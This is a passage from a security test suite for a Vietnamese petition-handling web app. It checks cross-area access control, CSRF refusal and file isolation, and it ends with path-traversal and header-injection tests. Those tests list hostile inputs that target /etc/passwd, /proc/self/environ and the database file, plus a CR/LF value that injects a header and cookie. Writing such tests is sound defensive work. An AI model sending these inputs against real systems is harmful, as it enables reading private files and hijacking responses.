		return [{ kind: 'form', data: { title: `Chiếm quyền ${n}`, lead: 'Tóm tắt', body: 'Nội dung bài viết thử.', author: 'Thử', tags: '', slug: `chiem-quyen-${n}`, note: 'sửa', category: T.category } }];
	case '/newsroom/*/submit':
	case '/newsroom/*/reopen':
	case '/newsroom/*/publish':
	case '/newsroom/*/unpublish':
	case '/newsroom/*/images/*/delete':
		return [{ kind: 'form', data: { note: `thử ${n}` } }];
	case '/newsroom/*/images':
		return [{ kind: 'multipart', data: { image: { filename: `anh-${n}.png`, data: PNG, type: 'image/png' }, alt: 'Ảnh thử', caption: 'Chú thích' } }];
	case '/newsroom/*/images/*/save':
		return [{ kind: 'form', data: { alt: `Chiếm quyền ${n}`, caption: 'x', sort: '1' } }];
	case '/newsroom':
		return [];
	case '/logout':
	case '/account/password':
	case '/account/lang':
	case '/login':
		return [];
	default:
		/* A new route: a generic body, so it is still tried. */
		return [{ kind: json ? 'json' : 'form', data: { text: `thử ${n}`, name: `thử ${n}`, note: `thử ${n}`, id: T.cases[0], org_id: T.orgs[0], user_id: T.users[0] }, note: 'generic body (new route?)' }];
	}
}

/* Query variants naming T's objects, for GET routes without '*'. */
function queriesFor(T) {
	return ['', `?q=${encodeURIComponent(T.marker)}`, `?area=${T.commune}`, `?area=${T.commune}&queue=all`, `?unit=${T.commune}`,
		`?unit_id=${T.communeId}`, `?org=${T.orgs[0]}`, `?org_id=${T.orgs[0]}`, `?type=org&id=${T.orgs[0]}`,
		`?type=user&id=${T.users[0]}`, `?type=case&id=${T.petition}`, `?q=${encodeURIComponent(T.petitionCode)}`];
}

/* Concrete paths for a pattern with T's objects: [{url, note, mixed}]. */
function bindings(pattern, T, own) {
	const kinds = starKinds(pattern);
	if (!kinds.length) return [{ url: pattern, refsOther: false }];
	const values = {
		user: T.users.map((v) => [v]), org: T.orgs.map((v) => [v]), case: T.cases.map((v) => [v]),
		unit: [[T.communeId]], code: [[T.petitionCode]], asset: [['site.css']], region: [['dbsh-11']],
		...(T.article ? { article: [[T.article]], revision: [[T.revision]], image: [[T.image || 999999]] } : {}),
		slug: [[T.articleSlug || 'khong-co']], category: [[T.categorySlug || 'khong-co']],
		...(T.feedback?.length ? { feedback: T.feedback.map((v) => [v]) } : {}),
		...(T.receptions?.length ? { reception: T.receptions.map((v) => [v]) } : {}),
		unknown: [...T.cases, ...T.orgs, ...T.users].map((v) => [v]),
	};
	let combos;
	if (kinds.join() === 'case,file')
		combos = [...T.files, ...own.files.map(([, f]) => [own.petition, T.privateFile]).slice(0, 1),
			...T.files.map(([c]) => [c, own.privateFile]).slice(0, 1)];
	else if (kinds.join() === 'code,pubfile')
		combos = [[T.petitionCode, T.publicFile], [T.petitionCode, T.privateFile]];
	else if (kinds.length === 1)
		combos = values[kinds[0]] || values.unknown;
	else
		combos = [kinds.map((k) => (values[k] || values.unknown)[0][0])];
	return combos.map((vals) => {
		let i = 0;
		return { url: pattern.replace(/\*/g, () => encodeURIComponent(String(vals[i++]))), refsOther: true };
	});
}

// ==== the database digest ============================================================

/* Per table: a hash of the rows that existed at the snapshot (sha3_query
 * of the sqlite3 shell), and the max rowid.  Left out: the attachments'
 * bytes (their sha256 is in), tokens' last use, sessions' last touch. */
function snapshot() {
	/* ordinary tables; full-text indexes (virtual and shadow) follow their content */
	const tables = qall("SELECT name, wr FROM pragma_table_list WHERE schema = 'main' AND type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name");
	const snap = {};
	for (const [t, wr] of tables) {
		const cols = qall(`SELECT name FROM pragma_table_info(${sq(t)})`).map((r) => r[0])
			.filter((c) => !(t === 'case_attachment' && c === 'data') && !(t === 'api_token' && c === 'last_used') && !(t === 'session' && c === 'last_seen'));
		snap[t] = { cols, rowid: wr === '0' };
	}
	const maxes = qall(Object.entries(snap).map(([t, s]) => s.rowid ? `SELECT ${sq(t)}, coalesce(max(rowid), 0) FROM "${t}"` : `SELECT ${sq(t)}, count(*) FROM "${t}"`).join(' UNION ALL '));
	for (const [t, m] of maxes) snap[t].max = Number(m);
	const hashes = hashTables(snap);
	for (const t of Object.keys(snap)) snap[t].hash = hashes[t];
	return snap;
}

function hashTables(snap) {
	const parts = Object.entries(snap).map(([t, s]) => {
		const cols = s.cols.map((c) => `"${c}"`).join(', ');
		const inner = s.rowid ? `SELECT ${cols} FROM "${t}" WHERE rowid <= ${s.max} ORDER BY rowid`
			: `SELECT ${cols} FROM "${t}" ORDER BY ${s.cols.map((_, i) => i + 1).join(', ')}`;
		return `SELECT ${sq(t)}, hex(sha3_query(${sq(inner)}))`;
	});
	return Object.fromEntries(qall(parts.join(' UNION ALL ')));
}

/* What changed since `snap`: tables with changed or deleted rows, and new rows. */
function changes(snap) {
	const diff = [];
	const hashes = hashTables(snap);
	const counts = Object.fromEntries(qall(Object.entries(snap).map(([t, s]) => s.rowid
		? `SELECT ${sq(t)}, count(*) FROM "${t}" WHERE rowid > ${s.max}` : `SELECT ${sq(t)}, 0`).join(' UNION ALL ')));
	for (const [t, s] of Object.entries(snap)) {
		if (hashes[t] !== s.hash) diff.push({ table: t, kind: 'changed or deleted rows' });
		const added = Number(counts[t]);
		if (added) diff.push({ table: t, kind: 'new rows', added, max: s.max });
	}
	return diff;
}

// ==== setup ========================================================================

before(async () => {
	srv = await startServer();
	BASE = srv.base;
	vaultKey = fs.readFileSync(`${await fixtureDb()}.vault-demo.key`, 'utf8').trim();
	AREAS.HN = await buildArea('HN', {
		province: 'Hà Nội', pcode: '01', slug: 'ha-noi', commune: '00004', citizenIp: '127.0.1.1',
		attackerOrgs: provinceOrgs('Hải Phòng'),
		reception: 'ha-noi.reception', handler: 'ha-noi.handler', admin: 'ha-noi.admin',
		actors: ['ha-noi.admin', 'ha-noi.leader', 'ha-noi.massmob', 'ha-noi.editor', 'ha-noi.reception', 'ha-noi.handler', 'c00004.reception', 'c00004.admin'],
	});
	AREAS.HP = await buildArea('HP', {
		province: 'Hải Phòng', pcode: '31', slug: 'hai-phong', commune: '10507', citizenIp: '127.0.1.2',
		attackerOrgs: provinceOrgs('Hà Nội'),
		reception: 'hai-phong.reception', handler: 'hai-phong.handler', admin: 'hai-phong.admin',
		actors: ['hai-phong.admin', 'hai-phong.leader', 'hai-phong.massmob', 'hai-phong.editor', 'hai-phong.reception', 'hai-phong.handler', 'c10507.reception', 'c10507.admin'],
	});
	AREAS.C8 = await buildArea('C8', {
		province: 'Hà Nội', pcode: '01', slug: 'ha-noi', commune: '00008', outsideCommune: '00004', citizenIp: '127.0.1.3',
		attackerOrgs: "SELECT id FROM org WHERE code LIKE 'c00004-%'",
		reception: 'c00008.reception', handler: 'c00008.admin', admin: 'c00008.admin', actors: [],
	});
	/* The C8 "area" as seen from commune 00004: its commune objects plus the
	 * province's own (outside a commune's scope). */
	AREAS.C8.orgs.push(orgByCode('p01-pc'));
	AREAS.C8.users.push(userId('ha-noi.reception'));
	for (const k of ['HN', 'HP']) for (const l of AREAS[k].actors) await actor(l);
});

after(async () => {
	for (const a of agents.values()) a.destroy();
	await srv?.stop();
});

// ==== the matrix =======================================================================

async function send(who, mode, method, url, body) {
	const b = who.browser;
	const opts = { headers: {} };
	if (mode === 'bearer') { opts.bearer = who.token; opts.noCookies = true; }
	if (mode === 'anon') opts.noCookies = true;
	let u = url + (body && body.query ? body.query : '');
	if (body && method !== 'GET' && method !== 'HEAD') {
		const csrf = mode === 'session' ? b.csrf : undefined;
		if (body.kind === 'form') opts.form = { ...(csrf ? { csrf } : {}), ...body.data };
		else if (body.kind === 'multipart') opts.multipart = { ...(csrf ? { csrf } : {}), ...body.data };
		else if (body.kind === 'json') { opts.json = body.data; if (csrf) opts.headers['X-CSRF-Token'] = csrf; }
		else if (body.kind === 'raw') { opts.body = body.data; opts.headers['Content-Type'] = 'application/octet-stream'; if (csrf) opts.headers['X-CSRF-Token'] = csrf; }
	}
	return b.request(method, u, opts);
}

/* Every route × method × binding × mode for one actor against area T. */
async function sweep(who, T, own, { anon = false, phase = 'main', safeOnly = false } = {}) {
	const mine = new Set([who.org]);
	for (const p of patterns()) {
		const anyRow = p.rows[0];
		if (isPublic(anyRow) && p.rows.every(isPublic)) continue; // public: see below
		const json = p.rows.some((rt) => rt.flags.has('R_JSON'));
		for (const bind of bindings(p.pattern, T, own)) {
			for (const method of safeOnly ? ['GET', 'HEAD'] : ALL_METHODS) {
				const row = rowFor(p, method === 'HEAD' ? 'HEAD' : method);
				const allowed = Boolean(row);
				const modes = anon ? ['anon'] : json ? ['session', 'bearer'] : ['session'];
				let bodies = [null];
				if (method === 'POST' && allowed) {
					bodies = bodiesFor(p.pattern, T, { json, own });
					if (!bodies.length) { stats.skipped.push(`${method} ${p.pattern} (${/^\/(login|logout|account)/.test(p.pattern) ? 'the actor\'s own account, not an object: tests/http/login.test.mjs, csrf.test.mjs' : 'creates the actor\'s own object and names no other'})`); continue; }
					/* registrations for the other area's commune make legitimate
					 * records there: they run last, after every view was tried */
					bodies = bodies.filter((b) => (phase === 'create') === Boolean(b.ownCreate));
				} else if (phase === 'create') {
					continue;
				} else if (method !== 'GET' && method !== 'HEAD') {
					bodies = [{ kind: 'form', data: { x: '1' } }];
				}
				if (!bodies.length) continue;
				const queries = !starKinds(p.pattern).length && (method === 'GET' || method === 'HEAD') && allowed ? queriesFor(T) : [''];
				for (const mode of modes) {
					for (const body of bodies) {
						for (const qs of queries) {
							const url = bind.url + qs;
							const ctx = {
								actor: who.login, mode, method, url, pattern: p.pattern, T, anon, json, methodAllowed: allowed,
								refsOther: bind.refsOther || (method === 'POST' && !!body && !!body.note && !/generic/.test(body.note)) || false,
								note: body && body.note,
							};
							if (body && body.ownCreate && !anon)
								ctx.ownCreate = (res) => {
									/* created for the actor's own organisation: fine */
									const id = res.headers.location ? Number((/\/cases\/(\d+)/.exec(res.headers.location) || [])[1]) : (() => { try { return res.json().id; } catch { return 0; } })();
									if (!id) return false;
									const recv = Number(q1(`SELECT receiving_org_id FROM cases WHERE id = ${id}`));
									ownCases.add(id);
									return mine.has(recv);
								};
							const res = await send(who, mode, method, url, body);
							judge(ctx, res);
						}
					}
				}
			}
		}
	}
}
const ownCases = new Set();

let SNAP;
test('route table parsed from routes.def and its includes', () => {
	assert.ok(ROUTES.length >= 60, `only ${ROUTES.length} routes parsed`);
	const pats = patterns();
	stats.routes = ROUTES.length;
	stats.patterns = pats.length;
	/* every '*' has a known meaning, or the table needs a line in SEGMENT_KINDS */
	const unknown = pats.filter((p) => starKinds(p.pattern).includes('unknown')).map((p) => p.pattern);
	if (unknown.length) console.log(`# routes whose '*' is tried with every kind of id: ${unknown.join(', ')}`);
	for (const rt of ROUTES) {
		assert.ok(rt.methods.every((m) => ALL_METHODS.includes(m)), `${rt.pattern}: ${rt.methods}`);
		assert.ok(rt.bodyCap > 0);
	}
});

test('every role of one area, on every route, against another area\'s objects: refused, nothing changes', async () => {
	SNAP = snapshot();
	const auditMax = SNAP.audit.max;
	const directions = [
		{ from: AREAS.HN.actors, T: AREAS.HP, own: AREAS.HN },
		{ from: AREAS.HP.actors, T: AREAS.HN, own: AREAS.HP },
		{ from: ['c00004.reception', 'c00004.admin'], T: AREAS.C8, own: AREAS.HN },
	];
	const t0 = Date.now();
	const actorSet = new Set();
	for (const d of directions) {
		/* a few actors at a time: the server has a thread per core */
		const queue = [...d.from];
		await Promise.all(Array.from({ length: 4 }, async () => {
			while (queue.length) {
				const login = queue.shift();
				actorSet.add(login);
				await sweep(await actor(login), d.T, d.own);
			}
		}));
	}
	const anon = { login: 'anonymous', browser: new Browser('anonymous'), org: 0 };
	await sweep(anon, AREAS.HP, AREAS.HN, { anon: true });
	for (const d of directions)
		for (const login of d.from) await sweep(await actor(login), d.T, d.own, { phase: 'create' });
	stats.actors = actorSet.size + 1;

	/* public rows: fetched by an actor with the other area's object (no 5xx) */
	const who = await actor('ha-noi.leader');
	for (const p of patterns().filter((x) => x.rows.every(isPublic))) {
		for (const bind of bindings(p.pattern, AREAS.HP, AREAS.HN)) {
			if (/\/tra-cuu|\/track/.test(p.pattern)) continue; /* rate limited, and their own test below */
			for (const method of ['GET', 'HEAD']) {
				if (!rowFor(p, method)) continue;
				const res = await who.browser.request(method, bind.url);
				stats.tried++;
				if (res.status >= 500) violation({ actor: who.login, mode: 'session', method, url: bind.url }, 'server error', res);
				else stats.publicOk++;
			}
		}
	}
	const secs = ((Date.now() - t0) / 1000).toFixed(1);

	/* the database: unchanged but for the actors' own rows */
	const actorIds = new Set([...users.values()].filter((u) => actorSet.has(u.login)).map((u) => u.id));
	const actorOrgs = new Set([...users.values()].filter((u) => actorSet.has(u.login)).map((u) => u.org));
	const problems = [];
	for (const c of changes(SNAP)) {
		if (c.kind !== 'new rows') {
			if (c.table === 'user') {
				/* only the actors' own rows may differ (nothing should, in fact) */
			}
			problems.push(`${c.table}: ${c.kind}`);
			continue;
		}
		const rows = (cols) => qall(`SELECT ${cols} FROM "${c.table}" WHERE rowid > ${c.max}`);
		if (c.table === 'session') {
			for (const [uid] of rows('user_id')) if (!actorIds.has(Number(uid))) problems.push(`session of user ${uid} created`);
		} else if (c.table === 'audit') {
			for (const [aid, action, type, oid] of rows('coalesce(actor_id, 0), action, object_type, coalesce(object_id, 0)'))
				if (!actorIds.has(Number(aid)) || (type === 'case' && !ownCases.has(Number(oid)) && !/reveal/.test(action)))
					problems.push(`audit: ${action} ${type} ${oid} by ${aid}`);
		} else if (c.table === 'cases') {
			for (const [id, recv] of rows('id, receiving_org_id')) if (!actorOrgs.has(Number(recv))) problems.push(`case ${id} created for org ${recv}`);
		} else if (['case_event', 'case_deadline', 'case_person', 'case_link', 'case_link_pending', 'outbox'].includes(c.table)) {
			for (const [cid] of rows('case_id')) if (!ownCases.has(Number(cid))) problems.push(`${c.table}: new row on case ${cid}`);
		} else {
			problems.push(`${c.table}: ${c.added} new rows`);
		}
	}
	/* the audit entries the attempts left, for the record */
	const newAudit = qall(`SELECT action, count(*) FROM audit WHERE id > ${auditMax} GROUP BY action`).map((r) => `${r[0]}×${r[1]}`).join(', ');

	console.log(`# security table: ${stats.routes} routes (${stats.patterns} patterns) × ${stats.actors} actors (${actorSet.size} roles of HN/HP/commune 00004 + anonymous) in ${secs} s`);
	console.log(`#   requests tried ${stats.tried}: refused ${stats.refused}, sent to login ${stats.loginRedirect}, own view without the other's data ${stats.ownView}, own registration ${stats.ownCreate}, public ${stats.publicOk}; violations ${stats.violations.length}`);
	console.log(`#   audit entries left by the attempts: ${newAudit || 'none'}; own cases registered: ${ownCases.size}`);
	for (const s of [...new Set(stats.skipped)]) console.log(`#   not tried: ${s}`);
	const report = violationReport();
	for (const line of report) console.log(`#   VIOLATION ${line.replace(/\n/g, '\n#   ')}`);
	assert.equal(report.length, 0, `${stats.violations.length} cross-area violations in ${report.length} groups:\n${report.join('\n')}`);
	assert.deepEqual(problems, [], `the database changed:\n${problems.join('\n')}`);
});

test('the matrix can fail: the objects\' own roles, sent the same reads, get through', async () => {
	/* the same sweep, reads only, by HP's own people on HP's objects: the
	 * judge must call these "violations", or it could never see a leak */
	const saved = stats.violations;
	stats.violations = [];
	for (const login of ['hai-phong.handler', 'hai-phong.admin', 'c10507.admin'])
		await sweep(await actor(login), AREAS.HP, AREAS.HP, { safeOnly: true });
	const seen = new Set(stats.violations.map((v) => v.group.split(' → ')[0]));
	stats.violations = saved;
	for (const must of ['GET /cases/*', 'GET /api/v1/cases/*', 'GET /admin/orgs/*', 'GET /admin/users/*', 'GET /cases/*/attachments/*', 'GET /api/v1/orgs/*', 'GET /api/v1/users/*', 'GET /cases'])
		assert.ok(seen.has(must), `own reads of ${must} were not seen as access: the judge is blind there (seen: ${[...seen].join(', ')})`);
});

test('own cases registered for another area\'s commune do not show that area\'s cases (duplicate suggestions)', async () => {
	/* /cases POST above registered petitions titled like the other area's
	 * petition in its commune: the suggestions must not name them */
	assert.ok(ownCases.size > 0, 'no own registration happened: the matrix did not reach it');
	/* the suggestions are the background worker's (off in this server): run it */
	const run = await cli(['jobs', 'run-once'], { db: srv.db });
	assert.equal(run.status, 0, run.stderr);
	assert.equal(q1(`SELECT count(*) FROM case_link_pending WHERE case_id IN (${[...ownCases].join(',')})`), '0');
	for (const id of ownCases) {
		const recvOrg = Number(q1(`SELECT receiving_org_id FROM cases WHERE id = ${id}`));
		const owner = [...users.values()].find((u) => u.org === recvOrg);
		if (!owner) continue;
		const unit = Number(q1(`SELECT unit_id FROM cases WHERE id = ${id}`));
		const T = Object.values(AREAS).find((a) => a.communeId === unit);
		if (!T) continue;
		for (const p of [`/cases/${id}`, `/api/v1/cases/${id}`]) {
			const res = await owner.browser.get(p);
			assert.equal(res.status, 200, `${owner.login} GET ${p}`);
			const leak = leakIn(res, T);
			assert.equal(leak, null, `${owner.login} GET ${p} shows ${leak}`);
		}
	}
});

test('every CSRF route refuses its own area without a token, or with another session\'s', async () => {
	const snap = snapshot();
	const tried = [];
	const hp = AREAS.HP;
	const owners = { CAP_USER_MANAGE: 'hai-phong.admin', CAP_ORG_MANAGE: 'hai-phong.admin', CAP_CASE_RECEIVE: 'hai-phong.reception', CAP_CASE_HANDLE: 'hai-phong.handler', CAP_CASE_VIEW: 'hai-phong.handler', CAP_LOGIN: 'hai-phong.editor' };
	const other = await actor('ha-noi.leader');
	for (const rt of ROUTES.filter((x) => x.flags.has('R_CSRF') && x.methods.includes('POST'))) {
		let bodies = bodiesFor(rt.pattern, hp, { json: rt.flags.has('R_JSON') }).filter((b) => !b.ownCreate || true).slice(0, 1);
		if (!bodies.length) bodies = [{ kind: 'form', data: { lang: 'en', old: DEMO_PASSWORD, new: 'Mat-khau-moi-123456', login: 'hai-phong.editor', password: DEMO_PASSWORD } }];
		const [bind] = bindings(rt.pattern, hp, AREAS.HN).filter((b) => !/%/.test(b.url));
		const url = bind.url + (bodies[0].query || '');
		if (isPublic(rt)) {
			/* a visitor: the anonymous cookie without the token, the token without the cookie */
			const v = new Browser('visitor', { localAddress: '127.0.2.1' });
			await v.page(rt.pattern.startsWith('/tra-cuu') ? `/tra-cuu/${hp.petitionCode}` : '/gui-don');
			const tok = v.csrf;
			const body = bodies[0].kind === 'form' || bodies[0].kind === 'multipart' ? bodies[0] : { kind: 'form', data: {} };
			for (const [how, opts] of [['no token', {}], ['no cookie', { noCookies: true, token: tok }]]) {
				const o = { noCookies: opts.noCookies };
				const data = { ...(opts.token ? { csrf: opts.token } : {}), ...body.data, text: 'thử', rating: '5' };
				if (body.kind === 'multipart') o.multipart = data; else o.form = data;
				const res = await v.request('POST', url.replace(/\?.*$/, ''), o);
				tried.push(rt.pattern);
				assert.ok(res.status === 403 || res.status === 429, `${rt.pattern} (${how}): ${res.status} ${res.text.slice(0, 200)}`);
			}
			continue;
		}
		const who = await actor(owners[rt.cap] || 'hai-phong.admin');
		for (const [how, token] of [['no token', undefined], ['another session\'s token', other.browser.csrf], ['a malformed token', 'x'.repeat(64)]]) {
			const b = bodies[0];
			const opts = { headers: {} };
			if (b.kind === 'json' || b.kind === 'raw') {
				if (b.kind === 'json') opts.json = b.data; else { opts.body = b.data; opts.headers['Content-Type'] = 'application/octet-stream'; }
				if (token) opts.headers['X-CSRF-Token'] = token;
			} else if (b.kind === 'multipart') opts.multipart = { ...(token ? { csrf: token } : {}), ...b.data };
			else opts.form = { ...(token ? { csrf: token } : {}), ...b.data };
			const res = await who.browser.request('POST', url, opts);
			tried.push(rt.pattern);
			assert.equal(res.status, 403, `${who.login} POST ${url} with ${how}: ${res.status} ${res.text.slice(0, 200)}`);
		}
	}
	const diff = changes(snap).filter((c) => c.table !== 'session');
	assert.deepEqual(diff, [], 'a refused CSRF attempt changed the database');
	console.log(`# CSRF: ${new Set(tried).size} routes, ${tried.length} forged posts, all 403`);
});

test('the same bodies succeed for the objects\' own area (the refusals are the scope\'s)', async () => {
	const T = AREAS.HP;
	const own = (l) => actor(l);
	const ok = [];
	const check = async (login, mode, p, body, want = [200, 201, 303]) => {
		const who = await own(login);
		const res = await send(who, mode, 'POST', p, body);
		assert.ok(want.includes(res.status), `${login} ${mode} POST ${p} [${body.note || body.kind}] → ${res.status} ${res.location || ''} ${res.text.slice(0, 300)}`);
		if (res.status === 303) assert.ok(!/^\/login/.test(res.location), `${p}: sent to login`);
		ok.push(p);
		return res;
	};
	const pick = (p, note) => bodiesFor(p, T).find((b) => !note || b.note === note);
	await check('hai-phong.admin', 'session', `/admin/orgs/${T.orgs[1]}/rename`, pick('/admin/orgs/*/rename'));
	await check('hai-phong.admin', 'bearer', `/api/v1/orgs/${T.orgs[2]}/rename`, pick('/api/v1/orgs/*/rename'));
	await check('hai-phong.admin', 'session', '/admin/orgs', pick('/admin/orgs', 'unit_code of the other area'));
	await check('hai-phong.admin', 'session', '/admin/orgs', pick('/admin/orgs', 'parent_id of the other area'));
	await check('hai-phong.admin', 'session', '/admin/users', pick('/admin/users'));
	await check('hai-phong.admin', 'session', `/admin/users/${T.users[0]}/roles`, { kind: 'form', data: { role: ['reception'] } });
	await check('hai-phong.admin', 'session', `/admin/users/${T.users[0]}/password`, pick('/admin/users/*/password'));
	await check('hai-phong.admin', 'session', `/admin/users/${T.users[0]}/disable`, pick('/admin/users/*/disable'));
	await check('hai-phong.admin', 'session', `/admin/users/${T.users[0]}/enable`, pick('/admin/users/*/enable'));
	await check('hai-phong.handler', 'session', `/cases/${T.petition}/note`, pick('/cases/*/note'));
	await check('hai-phong.handler', 'session', `/cases/${T.petition}/attachments`, pick('/cases/*/attachments'));
	await check('hai-phong.reception', 'bearer', `/api/v1/cases/${T.petition}/attachments`, pick('/api/v1/cases/*/attachments', 'raw'));
	await check('hai-phong.reception', 'session', `/api/v1/cases/${T.petition}/attachments`, pick('/api/v1/cases/*/attachments', 'multipart'));
	await check('hai-phong.handler', 'bearer', `/api/v1/cases/${T.petition}/transitions`, pick('/api/v1/cases/*/transitions', 'note'));
	await check('hai-phong.handler', 'session', `/cases/${T.denunciation}/reveal`, pick('/cases/*/reveal'), [200]);
	await check('hai-phong.reception', 'session', `/cases/${T.petition}/split`, pick('/cases/*/split'));
	await check('hai-phong.reception', 'session', `/cases/${T.petition}/act`, pick('/cases/*/act', 'classify'));
	await check('hai-phong.handler', 'session', `/cases/${T.petition}/act`, pick('/cases/*/act', 'accept'));
	await check('hai-phong.handler', 'session', `/cases/${T.petition}/reply`, pick('/cases/*/reply'));
	await check('hai-phong.reception', 'session', '/cases', pick('/cases'));
	await check('hai-phong.reception', 'bearer', '/api/v1/cases', pick('/api/v1/cases'), [201]);
	if (T.article) {
		await check('hai-phong.editor', 'session', `/newsroom/${T.article}/save`, bodiesFor('/newsroom/*/save', T)[0]);
		if (T.image) await check('hai-phong.editor', 'session', `/newsroom/${T.article}/images/${T.image}/save`, bodiesFor('/newsroom/*/images/*/save', T)[0]);
	}
	/* downloads by the file's own area */
	const hand = await own('hai-phong.handler');
	for (const [c, f] of T.files) {
		const res = await hand.browser.get(`/cases/${c}/attachments/${f}`);
		assert.equal(res.status, 200, `own download /cases/${c}/attachments/${f}`);
		assert.ok(res.body.equals(PDF));
	}
	const pub = await new Browser('citizen', { localAddress: '127.0.2.2' }).get(`/tra-cuu/${T.petitionCode}/tep/${T.publicFile}`);
	assert.equal(pub.status, 200, 'the public file by its own tracking code');
	console.log(`# positive controls: ${ok.length} writes by the objects' own area succeeded`);
});

// ==== tracking codes and files across cases ==========================================

test('tracking pages and files: one case\'s code never opens another case\'s file', async () => {
	const v = new Browser('citizen', { localAddress: '127.0.2.3' });
	const A = AREAS.HN, B = AREAS.HP;
	for (const p of [`/tra-cuu/${A.petitionCode}/tep/${B.publicFile}`, `/tra-cuu/${A.petitionCode}/tep/${B.privateFile}`,
		`/tra-cuu/${A.petitionCode}/tep/${A.privateFile}`, `/tra-cuu/${A.denunciationCode}/tep/${A.publicFile}`]) {
		const res = await v.get(p);
		assert.equal(res.status, 404, `${p}: ${res.status}`);
		assert.ok(!res.body.includes(PDF), `${p} sent a file`);
	}
	/* the public tracking page shows no personal data of the citizen */
	const res = await v.get(`/tra-cuu/${B.petitionCode}`);
	assert.equal(res.status, 200);
	assert.ok(!res.text.includes(`Nguyễn Văn ${B.marker}`) && !res.text.includes(`Số 1 phố ${B.marker}`), 'the tracking page shows the citizen\'s name or address');
	assert.ok(!res.text.includes('0912345678'), 'the tracking page shows the phone number');
	const api = await v.get(`/api/v1/track/${B.petitionCode}`);
	assert.equal(api.status, 200);
	assert.ok(!api.text.includes(`Nguyễn Văn ${B.marker}`) && !api.text.includes('0912345678'));
	/* a case id is not a tracking code */
	assert.equal((await v.get(`/tra-cuu/${B.petition}`)).status, 404);
});

test('only a handling officer publishes a file to the citizen, on the API as on the page', async () => {
	/* the page offers "public" to CAP_CASE_HANDLE only (ui/cases_actions.c ui_case_attach) */
	const B = AREAS.HP;
	const rec = await actor('hai-phong.reception');
	const res = await rec.browser.post(`/api/v1/cases/${B.denunciation}/attachments?public=1&name=tiep-nhan.pdf`, {
		bearer: rec.token, noCookies: true, body: PDF, headers: { 'Content-Type': 'application/octet-stream' },
	});
	assert.equal(res.status, 201, res.text);
	const id = Number(q1(`SELECT max(id) FROM case_attachment WHERE case_id = ${B.denunciation}`));
	assert.equal(q1(`SELECT public FROM case_attachment WHERE id = ${id}`), '0', 'a reception officer published a file through the API (api/cases_api.c api_case_attach ignores the capability)');
});

// ==== path traversal ===================================================================

test('path traversal in /assets/* and in attachment downloads: never a file it should not be', async () => {
	const v = new Browser('visitor', { localAddress: '127.0.2.4' });
	const passwd = /root:.*:0:0:/;
	for (const p of ['/assets/..\\..\\etc\\passwd', '/assets/%5c..%5c..%5cetc%5cpasswd', '/assets/%252e%252e%252fetc%252fpasswd',
		'/assets/%c0%ae%c0%ae/etc/passwd', '/assets/..%c0%af..%c0%afetc%c0%afpasswd', '/assets/./site.css', '/assets//site.css',
		'/assets/site.css/..', '/assets/../danvan.db', '/assets/..%2fdanvan.db', '/assets/%2e%2e%2f%2e%2e%2fsrc%2fmain.c',
		'/assets/site.css%00', '/assets/site.css%00.png', '/assets/%00', '/assets/site.css%20', '/assets/site.css;.png',
		'/./assets/site.css', '/assets/../../../../../../proc/self/environ']) {
		const res = await v.get(p);
		assert.ok([400, 404].includes(res.status), `${p}: ${res.status}`);
		assert.doesNotMatch(res.text, passwd);
		assert.doesNotMatch(res.text, /SQLite format 3|DANVAN_|#include/);
	}
	/* the one legitimate spelling still works; a query string is not part of the name */
	const css = await v.get('/assets/site.css');
	assert.equal(css.status, 200);
	const q = await v.get('/assets/site.css?/../../etc/passwd');
	assert.ok(q.status === 200 && q.body.equals(css.body), `/assets/site.css?/../../etc/passwd: ${q.status}`);

	const B = AREAS.HP, A = AREAS.HN;
	const hand = await actor('hai-phong.handler');
	const good = `/cases/${B.petition}/attachments/${B.privateFile}`;
	assert.equal((await hand.browser.get(good)).status, 200);
	for (const p of [`/cases/${B.petition}/attachments/..%2f${B.privateFile}`, `/cases/${B.petition}/attachments/${B.privateFile}%00`,
		`/cases/${B.petition}/attachments/${B.privateFile}%2f..`, `/cases/${B.petition}/attachments/.%2e`,
		`/cases/${B.petition}/attachments/${B.privateFile}\\..`, `/cases/%2e%2e/attachments/${B.privateFile}`,
		`/cases/${B.petition}/attachments/${B.privateFile}.0`, `/cases/${B.petition}/attachments/-${B.privateFile}`,
		`/cases/${B.petition}/attachments/0x${B.privateFile.toString(16)}`, `/cases/${B.petition}/attachments/${B.privateFile}e0`,
 `/cases/${B.petition}/attachments/${A.privateFile}`,
		`/cases/${A.petition}/attachments/${B.privateFile}`, `/cases/${B.existing}/attachments/${B.privateFile}`,
		`/cases/${B.petition}/attachments/99999999999999999999`, `/cases/${B.petition}/attachments/%2e%2e%2f%2e%2e%2f${A.petition}%2fattachments%2f${A.privateFile}`,
		`/tra-cuu/${B.petitionCode}/tep/..%2f${B.publicFile}`, `/tra-cuu/${B.petitionCode}/tep/${B.publicFile}%00`,
		`/tra-cuu/..%2f${B.petitionCode}/tep/${B.publicFile}`]) {
		const res = await (p.startsWith('/tra-cuu') ? new Browser('v', { localAddress: '127.0.2.5' }) : hand.browser).get(p);
		assert.ok([400, 404].includes(res.status), `${p}: ${res.status}`);
		assert.ok(!res.body.includes(PDF.subarray(0, 20)), `${p} sent a file`);
	}
	/* the path is percent-decoded before routing (web/dispatch.c): an encoded
	 * slash is a separator, so this is the same public file by its own code */
	const same = await new Browser('v', { localAddress: '127.0.2.8' }).get(`/tra-cuu/${B.petitionCode}%2ftep%2f${B.publicFile}`);
	assert.ok(same.status === 404 || (same.status === 200 && same.body.equals(PDF)), `encoded slashes: ${same.status}`);
});

// ==== header injection ==================================================================

function assertNoSplit(res, what) {
	const names = [];
	for (let i = 0; i < res.raw.length; i += 2) names.push(res.raw[i].toLowerCase());
	assert.ok(!names.includes('x-injected'), `${what}: an injected header`);
	for (const sc of [].concat(res.headers['set-cookie'] || []))
		assert.ok(!/^(x|evil)=/.test(sc), `${what}: an injected cookie ${sc}`);
	for (let i = 0; i < res.raw.length; i++) assert.doesNotMatch(res.raw[i], /[\r\n]/, `${what}: CR/LF in a header`);
	if (res.location) assert.doesNotMatch(res.location, /[\r\n\s]|^\/\/|^\/\\|^[a-z]+:/i, `${what}: Location ${res.location}`);
}

test('header injection: CR/LF in what reaches Location, Set-Cookie and Content-Disposition', async () => {
	const inj = '%0d%0aX-Injected:%201%0d%0aSet-Cookie:%20evil=1';
	const v = new Browser('visitor', { localAddress: '127.0.2.6' });
	for (const p of [`/cases/${inj}`, `/admin/users/1${inj}`, `/account${inj}`, `/cases?area=${inj}`, `/?lang=en${inj}`,
		`/?lang=${inj}`, `/login?next=${inj}`, `/login?next=/${inj}`, `/tra-cuu?code=${inj}`, `/units?q=${inj}`,
